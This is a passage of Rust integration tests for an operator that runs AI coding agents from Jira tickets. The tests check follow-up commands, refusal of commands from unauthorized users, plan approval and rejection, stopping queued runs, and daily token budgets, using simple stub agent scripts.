                summary: summary.into(),
                labels: vec!["recac-agent".into()],
                reporter: Some("alice".into()),
                components: components.iter().map(|c| c.to_string()).collect(),
                custom_fields: field
                    .map(|url| [("customfield_10050".to_string(), serde_json::json!(url))])
                    .into_iter()
                    .flatten()
                    .collect(),
                ..Default::default()
            })
        };
        let by_field = seed(
            "from the field",
            &["web"],
            Some("https://git.example.com/org/field.git"),
        );
        let by_component = seed("from the component", &["web", "api"], None);
        let refused = seed(
            "off the list",
            &[],
            Some("https://elsewhere.example.net/org/x.git"),
        );
        let op = Running::start(&e, s, None).await;
        let field_task = wait_claimed(&e, &by_field, 1).await;
        let component_task = wait_claimed(&e, &by_component, 1).await;
        assert_eq!(
            field_task.spec.repository.url, "https://git.example.com/org/field.git",
            "{flavor:?}: the custom field wins over the component"
        );
        assert_eq!(
            component_task.spec.repository.url, "https://git.example.com/org/web.git",
            "{flavor:?}"
        );
        wait_for("the refusal comment", LONG, || async {
            let issue = e.sim.issue(&refused)?;
            (issue.comments.len() == 1).then_some(())
        })
        .await;
        op.stop().await;
        assert!(tasks_of(&e, &refused).await.is_empty(), "{flavor:?}");
    }
}

/// An agent that sleeps 8 s when its prompt says SLOW and 300 s when it says ENDLESS, and
/// reports its prompt's last line as its summary.
const TALKING_AGENT: &str = r#"case "$RECAC_PROMPT" in *ENDLESS*) sleep 300;; *SLOW*) sleep 8;; esac; last=$(printf '%s' "$RECAC_PROMPT" | tail -n 1 | tr -d '"\\'); printf '{"outcome":"succeeded","branch":"%s","summary":"did: %s"}' "$RECAC_BRANCH" "$last" > "$RECAC_RESULT_PATH""#;

async fn task_named(e: &Env, name: &str) -> Option<AgentTask> {
    let api: Api<AgentTask> = Api::namespaced(e.client.clone(), &e.ns);
    api.get_opt(name).await.expect("task read")
}

async fn wait_phase(e: &Env, name: &str, phase: recac_api::TaskPhase) -> AgentTask {
    wait_for(&format!("{name} {phase:?}"), LONG, || async {
        task_named(e, name)
            .await
            .filter(|t| t.status.as_ref().and_then(|s| s.phase) == Some(phase))
    })
    .await
}

fn failed_reason(task: &AgentTask) -> Option<String> {
    task.status.as_ref().and_then(|s| {
        s.conditions
            .iter()
            .find(|c| c.type_ == "Failed" && c.status == "True")
            .map(|c| c.reason.clone())
    })
}

/// recac's comments on `key` that answer the comment `id`.
fn replies_to(e: &Env, key: &str, id: &str) -> Vec<String> {
    let marker = recac_source::commands::reply_marker(id);
    e.sim
        .issue(key)
        .map(|i| {
            i.comments
                .iter()
                .map(|c| match &c.body {
                    serde_json::Value::String(wiki) => wiki.clone(),
                    adf => recac_jira::adf::plain_text(adf),
                })
                .filter(|t| t.contains(&marker))
                .collect()
        })
        .unwrap_or_default()
}

/// A follow-up asked in a comment (by a `/recac` line, then by a mention of the bot) is a
/// new run on the same branch with the earlier runs in its prompt, started once although
/// the comment arrives by webhook and by every poll and the operator restarts.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_comment_asks_for_a_follow_up_that_runs_once_on_the_same_branch() {
    for flavor in FLAVORS {
        let e = env("conv-follow", flavor, true).await;
        let key = ticket(&e, "Parse the list", &format!("Repo: {REPO}"));
        let op = Running::start_with_agent(&e, source(&e), None, TALKING_AGENT).await;
        e.sim.set_webhook(
            &format!("http://{}/webhooks/jira", op.http),
            Some(SECRET.to_vec()),
        );
        let run1 = recac_source::task::task_name(&key, 1);
        let first = wait_phase(&e, &run1, recac_api::TaskPhase::Succeeded).await;
        let branch = first.status.as_ref().and_then(|s| s.branch.clone());
        assert!(branch.is_some(), "{flavor:?}: run 1 has a branch");

        let asked = e
            .sim
            .comment_as(&key, "alice", "Thanks!\n/recac also handle the empty list");
        let run2 = recac_source::task::task_name(&key, 2);
        let second = wait_phase(&e, &run2, recac_api::TaskPhase::Succeeded).await;
        assert_eq!(
            second.annotations().get("recac.io/command"),
            Some(&asked),
            "{flavor:?}"
        );
        assert_eq!(second.labels()["recac.io/ticket"], key);
        assert_eq!(second.labels()["recac.io/run"], "2");
        assert_eq!(
            second.spec.repository.branch, branch,
            "{flavor:?}: same branch"
        );
        let prompt = second.spec.prompt.clone().unwrap_or_default();
        let original = prompt.find("Parse the list").expect("the original request");
        let earlier = prompt
            .find("- run 1: attempt 1 succeeded")
            .expect("run 1's outcome");
        let follow_up = prompt
            .find("also handle the empty list")
            .expect("the follow-up");
        assert!(original < earlier && earlier < follow_up, "{prompt}");

        let mentioned = e.sim.comment_mentioning_as(
            &key,
            "alice",
            BOT_ACCOUNT_ID,
            "and treat nulls like empty lists",
        );
        let run3 = recac_source::task::task_name(&key, 3);
        let third = wait_phase(&e, &run3, recac_api::TaskPhase::Succeeded).await;
        assert_eq!(
            third.annotations().get("recac.io/command"),
            Some(&mentioned)
        );
        let prompt = third.spec.prompt.clone().unwrap_or_default();
        assert!(
            prompt.contains("- run 2 (follow-up: also handle the empty list)"),
            "{prompt}"
        );
        assert!(
            prompt.ends_with("and treat nulls like empty lists"),
            "{flavor:?}: the mention is not part of the request: {prompt}"
        );

        // The same comments again: more polls, a redelivered webhook, a restart.
        tokio::time::sleep(Duration::from_secs(3)).await;
        op.stop().await;
        let op = Running::start_with_agent(&e, source(&e), None, TALKING_AGENT).await;
        tokio::time::sleep(Duration::from_secs(4)).await;
        op.stop().await;
        e.sim.clear_webhook();
        assert_eq!(
            tasks_of(&e, &key).await.len(),
            3,
            "{flavor:?}: one run per command"
        );
        let bot_comments = e
            .sim
            .issue(&key)
            .expect("issue")
            .comments
            .iter()
            .filter(|c| c.author == BOT_ACCOUNT_ID || c.author == recac_jira_sim::BOT_NAME)
            .count();
        assert_eq!(bot_comments, 0, "{flavor:?}: a follow-up needs no reply");
    }
}

/// A command from someone who may not trigger the source, an unknown command and an
/// approval with no plan waiting each get one reply, whatever polls and restarts follow.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn commands_that_cannot_act_get_one_reply_each() {
    for flavor in FLAVORS {
        let e = env("conv-reply", flavor, false).await;
        let mut s = source(&e);
        s.allowed_users = vec!["alice@example.com".into()];
        let key = ticket(&e, "Guarded", &format!("Repo: {REPO}"));
        let op = Running::start(&e, s.clone(), None).await;
        wait_claimed(&e, &key, 1).await;
        // Reading the comments fails for longer than the client retries: the next polls
        // read them again.
        e.sim.inject(
            recac_jira_sim::Fault::status(503)
                .on_method("GET")
                .on_path("/comment")
                .times(10),
        );
        let by_mallory = e.sim.comment_as(&key, "mallory", "/recac retry");
        let unknown = e.sim.comment_as(&key, "alice", "/recac frobnicate");
        let approve = e.sim.comment_as(&key, "alice", "/recac approve");
        let remark = e
            .sim
            .comment_as(&key, "alice", "just a remark for the team");
        for (id, words) in [
            (
                &by_mallory,
                "only alice@example.com may give recac commands",
            ),
            (&unknown, "does not know the command \"frobnicate\""),
            (&approve, "no plan waiting for approval"),
        ] {
            let reply = wait_for(&format!("a reply to {id}"), LONG, || async {
                replies_to(&e, &key, id).into_iter().next()
            })
            .await;
            assert!(reply.contains(words), "{flavor:?}: {reply}");
        }
        tokio::time::sleep(Duration::from_secs(3)).await;
        op.stop().await;
        let op = Running::start(&e, s, None).await;
        tokio::time::sleep(Duration::from_secs(4)).await;
        op.stop().await;
        for id in [&by_mallory, &unknown, &approve] {
            assert_eq!(
                replies_to(&e, &key, id).len(),
                1,
                "{flavor:?}: one reply to {id}"
            );
        }
        assert!(
            replies_to(&e, &key, &remark).is_empty(),
            "a remark is no command"
        );
        assert_eq!(tasks_of(&e, &key).await.len(), 1, "{flavor:?}: nothing ran");
    }
}

/// A follow-up while the ticket's run is still going queues behind it and runs after it;
/// `stop` ends the running task (its Job suspended, so the agent gets SIGTERM) and every
/// queued one, and a second `stop` is told there is nothing left to stop.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_follow_up_queues_behind_the_running_run_and_stop_ends_them() {
    let e = env("conv-queue", Flavor::Cloud, true).await;
    let key = ticket(&e, "SLOW work", &format!("Repo: {REPO}"));
    let op = Running::start_with_agent(&e, source(&e), None, TALKING_AGENT).await;
    let run1 = recac_source::task::task_name(&key, 1);
    wait_phase(&e, &run1, recac_api::TaskPhase::Running).await;
    e.sim
        .comment_as(&key, "alice", "/recac then write the docs");
    let run2 = recac_source::task::task_name(&key, 2);
    let queued = wait_for("run 2 queued behind run 1", LONG, || async {
        task_named(&e, &run2).await.filter(|t| {
            t.status.as_ref().is_some_and(|s| {
                s.conditions.iter().any(|c| {
                    c.type_ == "Queued" && c.status == "True" && c.reason == "PreviousRunActive"
                })
            })
        })
    })
    .await;
    assert!(queued.status.and_then(|s| s.job_name).is_none());
    assert!(
        jobs(&e)
            .await
            .iter()
            .all(|j| j.labels().get("recac.io/task") != Some(&run2)),
        "no Job for run 2 while run 1 runs"
    );
    wait_phase(&e, &run1, recac_api::TaskPhase::Succeeded).await;
    wait_phase(&e, &run2, recac_api::TaskPhase::Succeeded).await;

    let endless = ticket(&e, "ENDLESS work", &format!("Repo: {REPO}"));
    let endless1 = recac_source::task::task_name(&endless, 1);
    wait_phase(&e, &endless1, recac_api::TaskPhase::Running).await;
    e.sim.comment_as(&endless, "alice", "/recac and more");
    let endless2 = recac_source::task::task_name(&endless, 2);
    wait_for("the queued follow-up", LONG, || async {
        task_named(&e, &endless2).await
    })
    .await;
    let stop = e.sim.comment_as(&endless, "alice", "/recac stop");
    let stopped = wait_phase(&e, &endless1, recac_api::TaskPhase::Failed).await;
    assert_eq!(failed_reason(&stopped).as_deref(), Some("Stopped"));
    assert_eq!(stopped.annotations().get("recac.io/stop"), Some(&stop));
    let never_ran = wait_phase(&e, &endless2, recac_api::TaskPhase::Failed).await;
    assert_eq!(failed_reason(&never_ran).as_deref(), Some("Stopped"));
    assert!(never_ran.status.and_then(|s| s.job_name).is_none());
    let again = e.sim.comment_as(&endless, "alice", "/recac stop");
    let reply = wait_for("the answer to a second stop", LONG, || async {
        replies_to(&e, &endless, &again).into_iter().next()
    })
    .await;
    assert!(reply.contains("nothing running"), "{reply}");
    op.stop().await;
}

/// An agent that plans when the task is a planning run (its plan names the prompt's last
/// line) and otherwise works as [`TALKING_AGENT`].
const PLANNING_AGENT: &str = r#"last=$(printf '%s' "$RECAC_PROMPT" | tail -n 1 | tr -d '"\\'); if [ "$RECAC_MODE" = plan ]; then printf '{"outcome":"planned","branch":"%s","summary":"wrote a plan","plan":"1. change parse.rs for: %s"}' "$RECAC_BRANCH" "$last" > "$RECAC_RESULT_PATH"; else printf '{"outcome":"succeeded","branch":"%s","summary":"did: %s"}' "$RECAC_BRANCH" "$last" > "$RECAC_RESULT_PATH"; fi"#;

fn condition_reason(task: &AgentTask, type_: &str) -> Option<String> {
    task.status.as_ref().and_then(|s| {
        s.conditions
            .iter()
            .find(|c| c.type_ == type_ && c.status == "True")
            .map(|c| c.reason.clone())
    })
}

/// With `approval: plan`, a ticket's first run only plans and waits; `reject <why>` starts
/// a new planning run with the reason and the rejected plan, `approve` starts the run that
/// implements the approved plan; each answer acts once across polls and a restart, and the
/// planning runs end as their answers say.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_plan_waits_for_approval_and_a_rejected_plan_is_planned_again() {
    for flavor in FLAVORS {
        let e = env("conv-plan", flavor, true).await;
        let mut s = source(&e);
        s.approval.mode = recac_source::config::ApprovalMode::Plan;
        s.allowed_users = vec!["alice@example.com".into()];
        let key = ticket(&e, "Parse the list", &format!("Repo: {REPO}"));
        let op = Running::start_with_agent(&e, s.clone(), None, PLANNING_AGENT).await;
        let run1 = recac_source::task::task_name(&key, 1);
        let first = wait_phase(&e, &run1, recac_api::TaskPhase::AwaitingApproval).await;
        assert_eq!(first.spec.approval, Some(recac_api::Approval::Plan));
        let plan1 = first.status.as_ref().and_then(|s| s.plan.clone());
        assert!(
            plan1
                .as_deref()
                .is_some_and(|p| p.contains("1. change parse.rs")),
            "{flavor:?}: {plan1:?}"
        );
        assert_eq!(
            condition_reason(&first, "PlanReady").as_deref(),
            Some("PlanWritten")
        );
        // Someone who may not give commands cannot approve.
        let by_mallory = e.sim.comment_as(&key, "mallory", "/recac approve");
        wait_for("the reply to mallory", LONG, || async {
            replies_to(&e, &key, &by_mallory).into_iter().next()
        })
        .await;

        let reject = e
            .sim
            .comment_as(&key, "alice", "/recac reject keep the public API as it is");
        let run2 = recac_source::task::task_name(&key, 2);
        let second = wait_phase(&e, &run2, recac_api::TaskPhase::AwaitingApproval).await;
        assert_eq!(second.annotations().get("recac.io/command"), Some(&reject));
        assert_eq!(second.spec.approval, Some(recac_api::Approval::Plan));
        let prompt = second.spec.prompt.clone().unwrap_or_default();
        assert!(
            prompt.starts_with(&format!("Jira ticket {key}: Parse the list")),
            "{prompt}"
        );
        assert!(
            prompt.contains(": keep the public API as it is"),
            "{flavor:?}: the reason: {prompt}"
        );
        assert!(
            prompt.contains(&format!("Rejected plan:\n{}", plan1.unwrap_or_default())),
            "{flavor:?}: the rejected plan: {prompt}"
        );
        let rejected = wait_phase(&e, &run1, recac_api::TaskPhase::Failed).await;
        assert_eq!(
            condition_reason(&rejected, "Failed").as_deref(),
            Some("PlanRejected")
        );
        assert_eq!(
            rejected
                .annotations()
                .get("recac.io/approval")
                .map(String::as_str),
            Some("rejected")
        );

        let approve = e.sim.comment_as(&key, "alice", "/recac approve");
        let run3 = recac_source::task::task_name(&key, 3);
        let third = wait_phase(&e, &run3, recac_api::TaskPhase::Succeeded).await;
        assert_eq!(third.annotations().get("recac.io/command"), Some(&approve));
        assert_eq!(third.spec.approval, None, "{flavor:?}: the implementation");
        assert_eq!(
            third.spec.repository.branch,
            second.status.as_ref().and_then(|s| s.branch.clone()),
            "{flavor:?}: the planning run's branch"
        );
        let plan2 = second
            .status
            .as_ref()
            .and_then(|s| s.plan.clone())
            .unwrap_or_default();
        let prompt = third.spec.prompt.clone().unwrap_or_default();
        assert!(
            prompt.ends_with(&format!("Approved plan:\n{plan2}")),
            "{flavor:?}: {prompt}"
        );
        let approved = wait_phase(&e, &run2, recac_api::TaskPhase::Succeeded).await;
        assert_eq!(
            condition_reason(&approved, "Succeeded").as_deref(),
            Some("PlanApproved")
        );

        // The same comments again: more polls, a restart.
        tokio::time::sleep(Duration::from_secs(3)).await;
        op.stop().await;
        let op = Running::start_with_agent(&e, s, None, PLANNING_AGENT).await;
        tokio::time::sleep(Duration::from_secs(4)).await;
        op.stop().await;
        assert_eq!(
            tasks_of(&e, &key).await.len(),
            3,
            "{flavor:?}: one run per answer"
        );
        assert_eq!(replies_to(&e, &key, &by_mallory).len(), 1, "{flavor:?}");
        for id in [&reject, &approve] {
            assert!(replies_to(&e, &key, id).is_empty(), "{flavor:?}: {id}");
        }
    }
}

/// With `approval.approvedStatus`, moving the ticket to that status approves the waiting
/// plan when an allowed user moved it, once; a move by someone else gets one reply.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn moving_the_ticket_to_the_approval_status_approves_the_plan() {
    let e = env("conv-plan-move", Flavor::Cloud, true).await;
    let mut s = source(&e);
    s.approval.mode = recac_source::config::ApprovalMode::Plan;
    s.approval.approved_status = Some("In Review".into());
    s.allowed_users = vec!["alice@example.com".into()];
    let key = ticket(&e, "Parse the list", &format!("Repo: {REPO}"));
    let op = Running::start_with_agent(&e, s.clone(), None, PLANNING_AGENT).await;
    let run1 = recac_source::task::task_name(&key, 1);
    wait_phase(&e, &run1, recac_api::TaskPhase::AwaitingApproval).await;

    e.sim.move_as(&key, "mallory", "In Review");
    let reply = wait_for("the reply to mallory's move", LONG, || async {
        let issue = e.sim.issue(&key)?;
        issue.comments.iter().find_map(|c| {
            let text = match &c.body {
                serde_json::Value::String(wiki) => wiki.clone(),
                adf => recac_jira::adf::plain_text(adf),
            };
            text.contains("did not take the move").then_some(text)
        })
    })
    .await;
    assert!(
        reply.contains("only alice@example.com may approve"),
        "{reply}"
    );
    e.sim.move_as(&key, "alice", "In Progress");
    e.sim.move_as(&key, "alice", "In Review");
    let run2 = recac_source::task::task_name(&key, 2);
    let second = wait_phase(&e, &run2, recac_api::TaskPhase::Succeeded).await;
    assert!(
        second
            .annotations()
            .get("recac.io/command")
            .is_some_and(|c| c.starts_with("status-")),
        "{:?}",
        second.annotations()
    );
    assert_eq!(second.spec.approval, None);
    let approved = wait_phase(&e, &run1, recac_api::TaskPhase::Succeeded).await;
    assert_eq!(
        condition_reason(&approved, "Succeeded").as_deref(),
        Some("PlanApproved")
    );
    tokio::time::sleep(Duration::from_secs(3)).await;
    op.stop().await;
    assert_eq!(tasks_of(&e, &key).await.len(), 2, "one implementation run");
    let replies = e
        .sim
        .issue(&key)
        .expect("issue")
        .comments
        .iter()
        .filter(|c| c.author == BOT_ACCOUNT_ID)
        .count();
    assert_eq!(replies, 1, "one reply, to mallory's move");
}

/// An agent that reports 80 input and 40 output tokens of model `m`.
const SPENDING_AGENT: &str = r#"printf '{"outcome":"succeeded","branch":"%s","summary":"spent","usage":[{"provider":"openai","model":"m","inputTokens":80,"outputTokens":40}]}' "$RECAC_BRANCH" > "$RECAC_RESULT_PATH""#;

fn bot_comments_with(e: &Env, key: &str, words: &str) -> Vec<String> {
    e.sim
        .issue(key)
        .map(|i| {
            i.comments
                .iter()
                .filter(|c| c.author == BOT_ACCOUNT_ID || c.author == recac_jira_sim::BOT_NAME)
                .map(|c| match &c.body {
                    serde_json::Value::String(wiki) => wiki.clone(),
                    adf => recac_jira::adf::plain_text(adf),
                })
                .filter(|t| t.contains(words))
                .collect()
        })
        .unwrap_or_default()
}

/// A source whose daily budget is spent starts no new ticket, says so once on the ticket
/// and once in an Event, counts each spend once across a restart, and starts the ticket
/// when the day rolls over (the operator's clock moved forward).
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_spent_daily_budget_holds_new_tickets_until_the_next_day() {
    let e = env("budget", Flavor::Cloud, true).await;
    let mut s = source(&e);
    s.budget = Some(recac_source::config::SourceBudget {
        per_day: Some(recac_source::config::PeriodLimit {
            tokens: Some(100),
            ..Default::default()
        }),
        per_month: None,
    });
    let first = ticket(&e, "Spend it", &format!("Repo: {REPO}"));
    let op = Running::start_with_agent(&e, s.clone(), None, SPENDING_AGENT).await;
    let run = recac_source::task::task_name(&first, 1);
    let done = wait_phase(&e, &run, recac_api::TaskPhase::Succeeded).await;
    let spend = done.status.and_then(|s| s.spend).expect("the task's spend");
    assert_eq!(
        spend.models[0].input_tokens + spend.models[0].output_tokens,
        120
    );

    let second = ticket(&e, "Wait for it", &format!("Repo: {REPO}"));
    let told = wait_for("the hold on the second ticket", LONG, || async {
        bot_comments_with(&e, &second, "has not started work")
            .into_iter()
            .next()
    })
    .await;
    assert!(told.contains("daily budget of 100 tokens"), "{told}");
    assert!(tasks_of(&e, &second).await.is_empty(), "no task while held");
    let ledger_of = || async {
        let maps: Api<k8s_openapi::api::core::v1::ConfigMap> =
            Api::namespaced(e.client.clone(), &e.ns);
        let map = maps.get("recac-spend-ops").await.expect("the ledger");
        let text = map.data.expect("data")["ledger.json"].clone();
        serde_json::from_str::<recac_source::budget::Ledger>(&text).expect("a ledger")
    };
    let day = recac_source::budget::day_key(jiff::Timestamp::now());
    assert_eq!(ledger_of().await.periods[&day].tokens, 120);
    // A follow-up on the first ticket waits too, and is not lost.
    e.sim
        .comment_as(&first, "alice", "/recac also greet the team");
    let held_command = wait_for("the hold on the follow-up", LONG, || async {
        bot_comments_with(&e, &first, "has not started the run asked for")
            .into_iter()
            .next()
    })
    .await;
    assert!(
        held_command.contains("daily budget of 100 tokens"),
        "{held_command}"
    );
    let follow_up = recac_source::task::task_name(&first, 2);
    assert!(
        task_named(&e, &follow_up).await.is_none(),
        "no run while held"
    );

    // A restart counts nothing twice and tells the ticket nothing twice.
    tokio::time::sleep(Duration::from_secs(2)).await;
    op.stop().await;
    let op = Running::start_with_agent(&e, s.clone(), None, SPENDING_AGENT).await;
    tokio::time::sleep(Duration::from_secs(4)).await;
    assert_eq!(ledger_of().await.periods[&day].tokens, 120);
    assert_eq!(
        bot_comments_with(&e, &second, "has not started work").len(),
        1
    );
    assert!(tasks_of(&e, &second).await.is_empty());
    let events: Api<k8s_openapi::api::events::v1::Event> = Api::namespaced(e.client.clone(), &e.ns);
    let announced = events
        .list(&ListParams::default())
        .await
        .expect("events")
        .items
        .into_iter()
        .filter(|ev| ev.reason.as_deref() == Some("BudgetSpent"))
        .count();
    assert_eq!(announced, 1, "one Event for the period");

    // The next day the ticket starts.
    recac_runtime::clock::shift_for_tests(jiff::SignedDuration::from_hours(24));
    let run = recac_source::task::task_name(&second, 1);
    let started = wait_for("the held ticket's task the next day", LONG, || async {
        task_named(&e, &run).await
    })
    .await;
    let resumed = wait_for("the held follow-up the next day", LONG, || async {
        task_named(&e, &follow_up).await
    })
    .await;
    recac_runtime::clock::shift_for_tests(jiff::SignedDuration::ZERO);
    assert_eq!(started.labels()["recac.io/ticket"], second);
    assert!(
        resumed
            .spec
            .prompt
            .unwrap_or_default()
            .ends_with("also greet the team"),
        "the follow-up's own request"
    );
    assert_eq!(
        bot_comments_with(&e, &first, "has not started the run asked for").len(),
        1,
        "the command's hold is told once"
    );
    op.stop().await;
}
